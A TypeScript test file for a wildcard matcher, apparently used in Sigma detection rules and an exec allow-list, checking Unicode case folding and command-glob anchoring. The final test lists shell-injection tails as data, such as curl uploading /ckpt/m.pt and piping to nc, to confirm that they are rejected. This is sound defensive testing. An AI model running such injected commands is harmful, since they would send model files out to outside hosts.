/**
 * The folded-RegExp string tests (wildcard.ts) against the plain definition they replace:
 * `s.toLowerCase()` compared with the lower-cased literal. The Unicode facts the folding relies
 * on are checked over every code point, then random literals meet random values built from
 * pieces of the literal and the troublesome characters (Kelvin sign, dotted capital I, long s,
 * sigma, combining dot, surrogate pairs).
 */
import { describe, expect, it } from 'vitest';
import { combineStringTests, compileCommandGlob, compileStringTest, exactSetTest, type MatchMode } from './wildcard.js';
import { mulberry32 } from '../../core/mulberry32.js';

const prng = mulberry32;

/** The definition: what the tests computed before they were folded into RegExps. */
function reference(raw: string, mode: MatchMode, cased: boolean, s: string): boolean {
  const lit = cased ? raw : raw.toLowerCase();
  const v = cased ? s : s.toLowerCase();
  switch (mode) {
    case 'equals': return s === raw || v === lit;
    case 'startswith': return s.startsWith(raw) || v.startsWith(lit);
    case 'endswith': return s.endsWith(raw) || v.endsWith(lit);
    case 'contains': return s.includes(raw) || v.includes(lit);
  }
}

const LIT_CHARS = 'abcdikKIsSz019 .-:/_|()[]{}^$+@';
const VALUE_EXTRAS = ['\u212a', '\u0130', '\u0131', '\u017f', '\u03a3', '\u00e9', '\u00c9', '\u0307', '\ud83d\ude00', 'K', 'I', 'k', 'i', '\\', '*', '?'];
const MODES: MatchMode[] = ['equals', 'startswith', 'endswith', 'contains'];
/** Sigma escapes (specification v2, "Wildcards") and the literal text each stands for. */
const ESCAPES: Array<[string, string]> = [['\\*', '*'], ['\\?', '?'], ['\\\\', '\\'], ['\\x', '\\x']];

/** A Sigma value without wildcards, and the literal text it denotes. */
function randomLiteral(r: () => number): { value: string; text: string } {
  const n = 1 + Math.floor(r() * 6);
  let value = '';
  let text = '';
  for (let i = 0; i < n; i++) {
    if (r() < 0.1) {
      const [v, t] = ESCAPES[Math.floor(r() * ESCAPES.length)]!;
      value += v;
      text += t;
    } else {
      const c = LIT_CHARS[Math.floor(r() * LIT_CHARS.length)]!;
      value += c;
      text += c;
    }
  }
  return { value, text };
}

function randomValue(r: () => number, lits: readonly string[]): string {
  let s = '';
  const n = Math.floor(r() * 5);
  for (let i = 0; i < n; i++) {
    const k = r();
    if (k < 0.4 && lits.length) {
      let piece = lits[Math.floor(r() * lits.length)]!;
      // Re-case the piece, or swap in a look-alike that lower-cases to the same letter.
      piece = [...piece].map((c) => {
        const x = r();
        if (c === 'k' && x < 0.3) return '\u212a';
        if (c === 'i' && x < 0.3) return '\u0130';
        return x < 0.5 ? c.toUpperCase() : c;
      }).join('');
      s += piece;
    } else if (k < 0.7) s += VALUE_EXTRAS[Math.floor(r() * VALUE_EXTRAS.length)]!;
    else s += LIT_CHARS[Math.floor(r() * LIT_CHARS.length)]!;
  }
  return s;
}

describe('folded string tests', () => {
  it('rest on facts about toLowerCase that hold for every code point', () => {
    const toAscii: number[] = [];
    const lengthChanges: number[] = [];
    for (let c = 0x80; c <= 0x10ffff; c++) {
      if (c >= 0xd800 && c <= 0xdfff) continue;
      const s = String.fromCodePoint(c);
      const l = s.toLowerCase();
      for (let i = 0; i < l.length; i++) {
        if (l.charCodeAt(i) < 0x80) {
          toAscii.push(c);
          break;
        }
      }
      if (l.length !== s.length) lengthChanges.push(c);
    }
    expect(toAscii).toEqual([0x130, 0x212a]);
    expect(lengthChanges).toEqual([0x130]);
    expect('\u0130'.toLowerCase()).toBe('i\u0307');
    for (let c = 0; c < 0x80; c++) expect(String.fromCharCode(c).toLowerCase().length).toBe(1);
  });

  it('place a multi-star run by its lower-cased length (U+0130 lower-cases to two code units)', () => {
    // 'İbc' lower-cases to 'i̇bc' (4 units): the run 'i̇b' (3 units) leaves 'c', not the 'bc' the pattern's last run needs.
    const t = compileStringTest('*\u0130b*bc', 'equals', false);
    expect(t.test('\u0130bc')).toBe(false);
    expect(t.test('\u0130bbc')).toBe(true);
    expect(t.test('xi\u0307b-bc')).toBe(true);
  });

  it('agree with lower-casing for single literals, every mode, cased or not', () => {
    const r = prng(11);
    for (let round = 0; round < 3000; round++) {
      const lit = randomLiteral(r);
      const mode = MODES[Math.floor(r() * MODES.length)]!;
      const cased = r() < 0.2;
      const t = compileStringTest(lit.value, mode, cased);
      for (let k = 0; k < 12; k++) {
        const s = randomValue(r, [lit.text]);
        expect(t.test(s), `${JSON.stringify(lit)} ${mode} cased=${cased} on ${JSON.stringify(s)}`).toBe(reference(lit.text, mode, cased, s));
      }
    }
  });

  it('agree with lower-casing for lists of literals (one combined RegExp)', () => {
    const r = prng(12);
    for (let round = 0; round < 1500; round++) {
      const n = 2 + Math.floor(r() * 5);
      const specs = Array.from({ length: n }, () => ({ lit: randomLiteral(r), mode: MODES[Math.floor(r() * MODES.length)]!, cased: r() < 0.15 }));
      const combined = combineStringTests(specs.map((x) => compileStringTest(x.lit.value, x.mode, x.cased)));
      for (let k = 0; k < 12; k++) {
        const s = randomValue(r, specs.map((x) => x.lit.text));
        const want = specs.some((x) => reference(x.lit.text, x.mode, x.cased, s));
        expect(combined(s), `${JSON.stringify(specs)} on ${JSON.stringify(s)}`).toBe(want);
      }
    }
  });

  it('exactSetTest is membership of the value or its lower case', () => {
    const r = prng(13);
    for (let round = 0; round < 1000; round++) {
      const lits = Array.from({ length: 2 + Math.floor(r() * 4) }, () => randomLiteral(r).text.toLowerCase());
      const set = new Set(lits);
      const t = exactSetTest(lits);
      for (let k = 0; k < 12; k++) {
        const s = randomValue(r, lits);
        expect(t(s), `${JSON.stringify(lits)} on ${JSON.stringify(s)}`).toBe(set.has(s) || set.has(s.toLowerCase()));
      }
    }
  });

  it('keep working for non-ASCII literals (plain lower-casing path)', () => {
    expect(compileStringTest('ÉTÉ', 'contains', false).test('un été chaud')).toBe(true);
    expect(compileStringTest('straße', 'startswith', false).test('STRAßE-1')).toBe(true);
    expect(exactSetTest(['été', 'hiver'])('ÉTÉ')).toBe(true);
    expect(combineStringTests([compileStringTest('é', 'endswith', false), compileStringTest('x', 'startswith', false)])('CAFÉ')).toBe(true);
  });
});

describe('compileCommandGlob (spec exec.allow)', () => {
  it('a wildcard never stands for a shell control character; a pattern may write them itself', () => {
    const nv = compileCommandGlob('sh -c nvidia-smi*');
    expect(nv('sh -c nvidia-smi')).toBe(true);
    expect(nv('sh -c nvidia-smi -q -d MEMORY')).toBe(true);
    for (const tail of ['; curl -T /ckpt/m.pt https://x', ' && curl x', ' | nc x 80', ' `curl x`', ' $(curl x)', ' > /tmp/x', ' < /ckpt/m.pt', '\ncurl x']) {
      expect(nv(`sh -c nvidia-smi${tail}`), tail).toBe(false);
    }
    const ps = compileCommandGlob('sh -c ps * | grep * | head');
    expect(ps('sh -c ps aux | grep -i python | head')).toBe(true);
    expect(ps('sh -c ps aux | grep -i python | head; curl x')).toBe(false);
    expect(ps('sh -c ps aux | nc x 80 | grep a | head')).toBe(false);
    expect(compileCommandGlob('python -c import torch; print(torch.cuda.is_available())')('python -c import torch; print(torch.cuda.is_available())')).toBe(true);
    // Case-sensitive, anchored, escapes as in every glob.
    expect(compileCommandGlob('ls *')('LS -la')).toBe(false);
    expect(compileCommandGlob('echo \\*')('echo *')).toBe(true);
    expect(compileCommandGlob('echo \\*')('echo x')).toBe(false);
    expect(compileCommandGlob('ps ?')('ps ;')).toBe(false);
  });
});
